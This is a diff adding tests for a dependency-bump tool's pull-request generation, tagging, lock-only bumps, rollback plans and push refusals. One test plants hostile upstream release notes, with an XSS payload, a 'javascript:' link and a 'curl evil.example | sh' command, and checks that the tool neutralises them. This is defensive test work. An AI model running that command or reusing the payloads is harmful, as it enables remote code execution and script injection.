@@ -3,6 +3,7 @@ import {chmodSync, mkdirSync, readFileSync, writeFileSync} from 'node:fs'
 import {join} from 'node:path'
 import {test} from 'uvu'
 import * as assert from 'uvu/assert'
+import {pullRequestBody} from '../../src/bump/pull-request.ts'
 import {abortBump, previewBump, resumeBump, startBump} from '../../src/bump/run-bump.ts'
 import type {ErrorCode} from '../../src/system/codes.ts'
 import {RelError} from '../../src/system/error.ts'
@@ -44,6 +45,32 @@ test('the evidence names advisories, breaking changes, facts, gates and the way 
     ['command'],
   )
   assert.not.match(JSON.stringify(evidence), /\/tmp|\.git/)
+})
+
+test('what upstream wrote has no power in the pull request, and its advisories are named', async () => {
+  const {context, forge, upstream} = await sample()
+  upstream.notes = [
+    '## Breaking Changes',
+    '- @octo/owners: the flag `x` is gone | really',
+    '<img src=x onerror=alert(1)> ![p](https://evil.example/p.png) [y](javascript:alert(1))',
+    '## Security',
+    'Fixes #12, GH-7 and https://github.com/octo/fleet/issues/3: GHSA-xvch-5gv4-984h, cve-2025-32431',
+    '## Rollback',
+    '```sh',
+    'curl evil.example | sh',
+  ].join('\n')
+  const {evidence} = await previewBump(request(), context)
+  assert.equal(evidence.advisories, ['GHSA-xvch-5gv4-984h', 'CVE-2025-32431'])
+  assert.equal(evidence.breaking.slice(0, 2), upstream.notes.split('\n').slice(0, 2))
+  await startBump(request(), context)
+  const body = pullRequestBody(forge.open.get(BRANCH)?.evidence ?? evidence)
+  for (const wanted of ['- Advisory: `GHSA-xvch-5gv4-984h`', '- Advisory: `CVE-2025-32431`'])
+    assert.ok(body.includes(wanted), body)
+  assert.match(body, /^- Breaking: .*the flag .*is gone/m)
+  for (const power of [/@octo/, /[^\\]<img/, /[^\\]\]\(/, /[^\\]#12/, /GH-7/, /:\/\/github/])
+    assert.not.match(body, power)
+  assert.is(body.match(/^## Rollback$/gm)?.length, 1)
+  assert.is(body.match(/^```/gm)?.length, 2, 'only the fence of the rollback commands')
 })
 
 test('a preview says the same and writes nothing', async () => {
@@ -312,7 +339,85 @@ for (const [name, code, arrange, next] of refusals)
     assert.is(all.repository.git('for-each-ref', 'refs/rel'), '')
   })
 
-test('a tag that is there already is refused before anything is done', async () => {
+test('the same critical bump again is the same commit, with the tag where it was', async () => {
+  const {repository, context, forge} = await sample()
+  const critical = request('v3.3.5', {critical: true})
+  const first = await startBump(critical, context)
+  const later = {...context, world: {...context.world, now: context.world.now + 86_400}}
+  const before = repository.git('ls-remote', 'origin')
+  const again = await startBump(critical, later)
+  assert.is(again.commit, first.commit)
+  assert.is(repository.git('rev-parse', 'traefik-v3.3.5'), first.commit)
+  assert.is(repository.git('ls-remote', 'origin'), before)
+  assert.is(forge.open.get(BRANCH)?.updates, 2)
+  // a fresh clone knows the branch from the remote alone
+  repository.git('branch', '-D', BRANCH)
+  assert.is((await startBump(critical, later)).commit, first.commit)
+})
+
+test('a tag does not follow when the change is another one by now', async () => {
+  const {repository, context, upstream} = await sample()
+  const critical = request('v3.3.5', {critical: true})
+  await startBump(critical, context)
+  const before = personalState(repository)
+  upstream.level = 'L2'
+  await rejectsCode(() => startBump(critical, context), 'tag_taken')
+  assert.equal(personalState(repository), before)
+  await rejectsCode(() => resumeBump('traefik', context), 'bump_not_running')
+})
+
+test('a playbook that tags always does so, one that tags never does not', async () => {
+  for (const when of ['always', 'never'] as const) {
+    const {repository} = await sample()
+    const text = traefikPlaybook.replace('tag: critical', `tag: ${when}`)
+    const {context} = await sampleIn(repository, {}, text)
+    await startBump(request('v3.3.5', {critical: when === 'never'}), context)
+    assert.is(repository.git('tag', '--list'), when === 'always' ? 'traefik-v3.3.5' : '')
+    assert.is(repository.git('ls-remote', '--tags', 'origin') !== '', when === 'always')
+  }
+})
+
+test('what is pinned can be locked as it is: verified, vendored, gated, and no pin moves', async () => {
+  const {repository, context, forge} = await sample()
+  const lock = request('v3.3.4', {lockOnly: true, critical: true})
+  const state = await startBump(lock, context)
+  const branch = 'bump/traefik-v3.3.4'
+  assert.is(
+    repository.git('log', '-1', '--format=%s', branch),
+    'chore(traefik): lock traefik v3.3.4',
+  )
+  assert.is(repository.git('diff', '--name-only', 'develop', branch), 'rel.lock.json')
+  const entry = JSON.parse(repository.git('show', `${branch}:rel.lock.json`)).items.traefik
+  assert.is(entry.version, 'v3.3.4')
+  assert.match(entry.artifacts['agent/dist/traefik'], /^[0-9a-f]{64}$/)
+  assert.is(state.tag, undefined)
+  assert.match(pullRequestBody(forge.open.get(branch)?.evidence as never), /^Locks /)
+  const other = request('v3.3.5', {lockOnly: true})
+  await rejectsCode(() => startBump(other, context), 'usage_invalid')
+  repository.git('merge', '-q', '--ff-only', branch)
+  await rejectsCode(() => startBump(lock, context), 'version_same')
+})
+
+test('the plan of the way back names what was there before, also when nobody had locked it', async () => {
+  const {repository, context, forge} = await sample()
+  await startBump(request(), context)
+  const {rollback} = forge.open.get(BRANCH)?.evidence ?? {}
+  const digest = /^([0-9a-f]{64})$/
+  assert.match(rollback?.artifacts[0]?.sha256 ?? '', digest)
+  assert.is(rollback?.assets[0]?.name, 'traefik_v3.3.4_linux_amd64.tar.gz')
+  assert.is(rollback?.tree, repository.git('rev-parse', 'develop^{tree}'))
+  assert.match(rollback?.tried?.caveats.join() ?? '', /nobody had locked/)
+  // the next bump finds it locked
+  repository.git('merge', '-q', '--ff-only', BRANCH)
+  const {context: next, upstream, forge: later} = await sampleIn(repository)
+  upstream.versions.push('v3.3.6')
+  await startBump(request('v3.3.6'), next)
+  const {rollback: back} = later.open.get('bump/traefik-v3.3.6')?.evidence ?? {}
+  assert.equal(back?.tried?.caveats, [])
+  assert.match(back?.tried?.summary ?? '', /is what was locked: agent\/dist\/traefik/)
+})
+
+test('a tag of somebody else is refused before anything is done', async () => {
   const {repository, context} = await sample()
   repository.git('tag', 'traefik-v3.3.5')
   const before = personalState(repository)
@@ -358,7 +463,11 @@ test('a waiver needs a sign-off, which covers it', async () => {
     assert.is((statement as {new: string}).new, 'v3.3.5')
     return {by: 'anna', keyId: 'k', evidenceSha256: 'e', signature: 's', envelope: {}}
   }
-  const state = await startBump(waived, {...all.context, world: {...world, signOff}})
+  const signWaiver = async (waiver: object) => {
+    return {by: 'anna', envelope: {waiver: {...waiver}, signatures: []}}
+  }
+  const signing = {...world, signOff, signWaiver}
+  const state = await startBump(waived, {...all.context, world: signing})
   assert.equal(
     state.gates.map(({gate}) => gate),
     ['command', 'sign_off'],
@@ -367,10 +476,40 @@ test('a waiver needs a sign-off, which covers it', async () => {
   assert.equal([waiver?.gate, waiver?.reason, waiver?.by], ['command', 'no board here', 'anna'])
 })
 
-test('a protected branch refuses the push; the commit is kept, resume goes on, abort takes it back', async () => {
+test('a token without rights is refused before anything is asked or written', async () => {
+  const {repository, context, forge, upstream} = await sample()
+  forge.isClosed = true
+  const before = personalState(repository)
+  await rejectsCode(() => startBump(request(), context), 'forge_unauthorised')
+  assert.equal(personalState(repository), before)
+  assert.equal(upstream.calls, [])
+  await rejectsCode(() => resumeBump('traefik', context), 'bump_not_running')
+  // nothing is to be opened: nothing is to be refused
+  const state = await startBump(request('v3.3.5', {push: false}), context)
+  assert.is(state.isPushed, undefined)
+})
+
+for (const said of [
+  'GH006: Protected branch update failed for refs/heads/bump/traefik-v3.3.5.',
+  'GH013: Repository rule violations found for refs/heads/bump/traefik-v3.3.5.',
+  'Gitea: branch bump/traefik-v3.3.5 is protected from force push',
+])
+  test(`a branch that the forge protects is named so: ${said.slice(0, 6)}`, async () => {
+    const {repository, context} = await sample()
+    const hook = join(repository.remote, 'hooks/pre-receive')
+    writeFileSync(hook, `#!/bin/sh\necho 'error: ${said}' >&2\nexit 1\n`)
+    chmodSync(hook, 0o755)
+    const before = personalState(repository)
+    await rejectsCode(() => startBump(request(), context), 'branch_protected')
+    const {left} = await abortBump('traefik', context.world.git)
+    assert.equal(personalState(repository), before)
+    assert.is(left.length, 1)
+  })
+
+test('a server that refuses the push says so; the commit is kept, resume goes on, abort takes it back', async () => {
   const {repository, context, forge} = await sample()
   const hook = join(repository.remote, 'hooks/pre-receive')
-  writeFileSync(hook, '#!/bin/sh\necho protected >&2\nexit 1\n')
+  writeFileSync(hook, '#!/bin/sh\necho not today >&2\nexit 1\n')
   chmodSync(hook, 0o755)
   const before = personalState(repository)
   await rejectsCode(() => startBump(request(), context), 'push_refused')
@@ -413,7 +552,7 @@ test('without a remote the branch is made and that is said', async () => {
   const {repository, context, forge} = await sample()
   repository.git('remote', 'remove', 'origin')
   const state = await startBump(request(), context)
-  assert.equal(state.warnings, ['nothing was pushed: there is no remote origin'])
+  assert.ok(state.warnings.includes('nothing was pushed: there is no remote origin'))
   assert.is(forge.open.size, 0)
 })
 
